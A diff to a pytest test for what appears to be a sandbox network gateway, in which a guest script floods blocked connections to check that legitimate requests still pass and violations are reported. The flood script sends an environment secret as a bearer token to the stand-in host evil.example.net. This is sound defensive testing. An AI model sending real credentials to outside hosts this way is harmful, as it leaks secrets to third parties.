@@ -11,7 +11,7 @@ import time
 
 import pytest
 
-from netlab import fake_value, wait_for
+from netlab import AccessLog, fake_value, wait_for
 
 import sdk_lab
 
@@ -232,9 +232,12 @@ def test_sigint_is_left_to_the_caller_and_sigterm_stops(serve):
 
 FLOOD = b"""
 import os, socket, ssl, sys, time
+# Violations until at least argv[1] of them are made (then /tmp/flood.filled) and the legitimate
+# requests are done (/tmp/legit.done), or argv[2] seconds passed: a count, not a time, so a loaded
+# machine makes as many as an idle one.
 ctx = ssl.create_default_context()
-n, deadline = 0, time.time() + float(sys.argv[1])
-while time.time() < deadline:
+n, deadline = 0, time.time() + float(sys.argv[2])
+while time.time() < deadline and (n < int(sys.argv[1]) or not os.path.exists("/tmp/legit.done")):
     try:
         s = ctx.wrap_socket(socket.create_connection(("evil.example.net", 443), timeout=5), server_hostname="evil.example.net")
         s.sendall(b"GET /flood HTTP/1.1\\r\\nHost: evil.example.net\\r\\nAuthorization: Bearer " + os.environ["K"].encode() + b"\\r\\n\\r\\n")
@@ -243,6 +246,8 @@ while time.time() < deadline:
     except OSError:
         pass
     n += 1
+    if n == int(sys.argv[1]):
+        open("/tmp/flood.filled", "w").close()
 print(n)
 """
 
@@ -264,18 +269,28 @@ def test_a_violation_flood_while_the_client_reads_nothing_stalls_nothing(serve):
         assert run(s, 1, ["sh", "-c", "cat > /tmp/flood.py"], stdin=base64.b64encode(FLOOD).decode())["code"] == 0
         legit = ('curl -sS -m 10 -o /dev/null -w "%{http_code}\\n" -H "Authorization: Bearer $K" '
                  'https://api.example.com/flood-legit >> /tmp/legit.out 2>/dev/null')
-        script = (f"python3 /tmp/flood.py 12 > /tmp/flood.out 2>&1 & "
-                  f"(for i in 1 2 3 4 5 6 7 8; do sleep 1; {legit}; done) >/dev/null 2>&1 & echo started")
+        # The legitimate requests start once 1000 violations were made (~420 KB of events: more than
+        # the socket takes) and the flood goes on until they are done.
+        script = (f"python3 /tmp/flood.py 1000 150 > /tmp/flood.out 2>&1 & "
+                  f"(for i in $(seq 750); do [ -e /tmp/flood.filled ] && break; sleep 0.2; done; "
+                  f"for i in 1 2 3 4 5 6 7 8; do sleep 0.5; {legit}; done; touch /tmp/legit.done) >/dev/null 2>&1 & "
+                  f"echo started")
         assert run(s, 2, ["sh", "-c", script])["stdout"] == b"started\n"
-        time.sleep(14)  # reading nothing while the guest floods
-        s.request({"type": "run", "id": 3, "argv": ["sh", "-c", "for i in $(seq 150); do [ -s /tmp/flood.out ] && break; sleep 0.2; done; "
+        # Reading nothing while the guest floods, until the upstream has the 8 legitimate requests
+        # (bounded: a stalled gateway never lets them through, and the assertions below say so).
+        access = AccessLog(env["AIRLOCK_LAB_ACCESS_LOG"])
+        deadline = time.monotonic() + 180
+        while access.count("/flood-legit") < 8 and time.monotonic() < deadline:
+            time.sleep(0.2)
+        s.request({"type": "run", "id": 3, "argv": ["sh", "-c", "for i in $(seq 300); do [ -s /tmp/flood.out ] && break; sleep 0.2; done; "
                                                      "cat /tmp/legit.out /tmp/flood.out"]})
         events = s.events_until("exited")
         out = events[-1]["stdout"].decode().split()
         violations = sum(e["type"] == "violation" for e in events)
         dropped = [e for e in events if e["type"] == "warning" and "dropped" in e["message"]]
         flood = int(out[-1])
-        assert flood > 1000, out  # enough to fill the socket and the queue
+        print(f"{flood} violations made, {violations} reported, {len(dropped)} dropped warnings")
+        assert flood > 1000, out  # enough to fill the socket (an event is ~420 bytes)
         assert out[:-1] == ["200"] * 8, f"legit requests during the flood: {out[:-1]}"
         assert violations + sum(int(e["message"].split()[0]) for e in dropped) <= flood
         assert violations > 0
